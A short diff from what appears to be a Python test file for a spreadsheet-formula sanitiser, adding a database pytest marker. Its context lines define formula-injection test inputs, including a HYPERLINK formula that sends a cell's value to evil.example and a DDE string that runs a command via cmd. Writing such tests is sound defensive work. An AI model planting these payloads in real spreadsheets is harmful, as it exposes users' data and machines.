@@ -24,6 +24,9 @@ from citystrat.exchange.services import observations_import
 from citystrat.observations.models import Observation
 from citystrat.safecells import arithmetic_formula
 
+# Reaches the database through a subprocess or the connection itself: runs on PostgreSQL too.
+pytestmark = pytest.mark.reaches_database
+
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
 
